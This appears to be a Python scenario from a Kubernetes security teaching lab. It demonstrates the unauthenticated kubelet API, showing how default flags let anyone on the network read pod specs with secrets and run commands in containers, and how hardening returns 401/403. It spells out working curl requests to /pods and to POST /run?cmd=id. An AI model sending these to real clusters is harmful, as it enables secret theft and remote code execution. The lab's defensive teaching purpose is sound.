"""Scenario 3: the kubelet API from inside the network, no credentials (10250 HTTPS, 10255 HTTP).

The source page: "Ausserdem sollte Kubelet Authentifizierung und/oder Autorisierung aktiviert sein,
um die kubelet-API zu sichern." With the kubelet's flag defaults (``--anonymous-auth=true``,
``--authorization-mode=AlwaysAllow``, ``--read-only-port=10255``) anyone who can reach a node reads
every pod spec (env values included) and runs commands in its containers.

Checks, each decided by one row of the profile table (minilab/profiles.py):

1. ``GET https://NODE:10250/pods`` anonymously: 200 (authn and authz insecure), 401 (``kubelet-authn``
   hardened: anonymous refused), 403 (only ``kubelet-authz`` hardened: anonymous not allowed).
2. ``GET http://NODE:10255/pods``: 200 (``kubelet-readonly`` insecure), connection refused (hardened).
3. ``POST https://NODE:10250/run/NS/POD/CONTAINER?cmd=id`` anonymously: as 1, but a command runs.
4. ``GET https://NODE:10250/pods`` with alice's bearer token (a valid user without rights on
   nodes/proxy): 200 under ``AlwaysAllow``, 403 under ``--authorization-mode=Webhook``.
"""

from __future__ import annotations

import secrets
import subprocess
from pathlib import Path

from lab.attacker import decode
from lab.scenarios.base import Context
from minilab.profiles import Level

NAME = "kubelet-api"
SUMMARY = "open kubelet API on 10250/10255: anonymous /pods and /run, or 401/403 with kubelet authn/authz"
PATHS = ("kubelet-authn", "kubelet-authz", "kubelet-readonly")
TOKENS = Path("/etc/kubernetes/tokens.csv")


def pod_manifest(name: str, node: str, secret: str) -> dict[str, object]:
    return {"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": name, "labels": {"lab.scenario": NAME}},
            "spec": {"nodeName": node, "terminationGracePeriodSeconds": 1,
                     "containers": [{"name": "app", "image": "busybox", "command": ["sleep", "3600"],
                                     "env": [{"name": "DB_PASSWORD", "value": secret}]}]}}


def _status(proc: subprocess.CompletedProcess[str]) -> int:
    """The HTTP status curl printed last (``-w '\\nHTTP %{http_code}'``); 0 if it never got one."""
    lines = proc.stdout.strip().splitlines()
    last = lines[-1] if lines else ""
    return int(last.split()[1]) if last.startswith("HTTP ") and last.split()[1].isdigit() else 0


def _curl(ctx: Context, *args: str, shown: list[str] | None = None) -> subprocess.CompletedProcess[str]:
    argv = ["curl", "-sS", "--max-time", "10", "-w", "\nHTTP %{http_code}\n", *args]
    return ctx.run(argv, display=["curl", "-sS", *(shown or args)], max_lines=6)


def _expected_anonymous(ctx: Context) -> int:
    if ctx.level("kubelet-authn") is Level.HARDENED:
        return 401
    return 403 if ctx.level("kubelet-authz") is Level.HARDENED else 200


def _show_leak(ctx: Context, body: str, secret: str) -> bool:
    """Point at the secret in a /pods answer, as an attacker would read it."""
    answer = body.rsplit("\nHTTP ", 1)[0]  # without curl's -w status line
    lines = [line for line in decode.pods_summary(answer.encode()) if secret in line]
    for line in lines:
        ctx.report.say(f"-> {line}", "      ")
    return bool(lines)


def alice_token() -> str:
    for line in TOKENS.read_text().splitlines():
        fields = line.split(",")
        if len(fields) >= 3 and fields[1] == "alice":
            return fields[0]
    raise LookupError(f"no alice in {TOKENS}")


def run(ctx: Context) -> None:
    r = ctx.report
    node = ctx.top.nodes[0]
    secret = secrets.token_hex(6)
    pod = f"kubelet-api-{secret[:6]}"
    r.step(f"Create a pod on {node.name} with a password in its environment (a common mistake)")
    with ctx.pod(pod_manifest(pod, node.name, secret)) as started:
        if not started:
            return
        _checks(ctx, node.ip, pod, secret)


def _checks(ctx: Context, ip: str, pod: str, secret: str) -> None:
    r = ctx.report
    anonymous = _expected_anonymous(ctx)

    r.step("Anonymous: ask the kubelet's HTTPS port for its pods (no certificate, no token)")
    got = _curl(ctx, "-k", f"https://{ip}:10250/pods")
    leaked = _show_leak(ctx, got.stdout, secret)
    r.check(_status(got) == anonymous and leaked == (anonymous == 200),
            f"HTTP {anonymous}" + (", and the pod's DB_PASSWORD is in the answer" if anonymous == 200 else ""),
            f"HTTP {_status(got)}" + (" with the password" if leaked else ""))

    r.step("The read-only port 10255: plain HTTP, no authentication at all")
    got = _curl(ctx, f"http://{ip}:10255/pods")
    _show_leak(ctx, got.stdout, secret)
    if ctx.level("kubelet-readonly") is Level.INSECURE:
        r.check(_status(got) == 200 and secret in got.stdout, "HTTP 200 with the password",
                f"HTTP {_status(got)} (curl exit {got.returncode})")
    else:
        r.check(_status(got) == 0 and got.returncode == 7, "connection refused: --read-only-port=0",
                f"HTTP {_status(got)} (curl exit {got.returncode})")

    r.step("Anonymous: run a command in the pod's container (POST /run)")
    got = _curl(ctx, "-k", "-X", "POST", f"https://{ip}:10250/run/default/{pod}/app?cmd=id")
    r.check(_status(got) == anonymous and ("uid=0" in got.stdout) == (anonymous == 200),
            f"HTTP {anonymous}" + (": `id` ran as root in the container" if anonymous == 200 else ""),
            f"HTTP {_status(got)}")

    r.step("With a valid user's token: alice (tokens.csv) has no rights on nodes/proxy")
    header = f"Authorization: Bearer {alice_token()}"
    got = _curl(ctx, "-k", "-H", header, f"https://{ip}:10250/pods",
                shown=["-k", "-H", "Authorization: Bearer $ALICE_TOKEN", f"https://{ip}:10250/pods"])
    want = 403 if ctx.level("kubelet-authz") is Level.HARDENED else 200
    r.check(_status(got) == want, f"HTTP {want}", f"HTTP {_status(got)}")

    if anonymous == 200:
        r.notice("Anyone on the node network read every pod spec on the node, secrets in env included, and ran "
                 "commands as root in its containers: the kubelet's flag defaults are --anonymous-auth=true and "
                 "--authorization-mode=AlwaysAllow (kubeadm's config file turns both off).")
    else:
        r.notice("With --anonymous-auth=false the kubelet answers 401 to requests without credentials; with "
                 "--authorization-mode=Webhook it asks the apiserver (SubjectAccessReview) whether the caller "
                 "may use nodes/proxy, nodes/log, ..., and alice may not: 403. --read-only-port=0 closes 10255.")
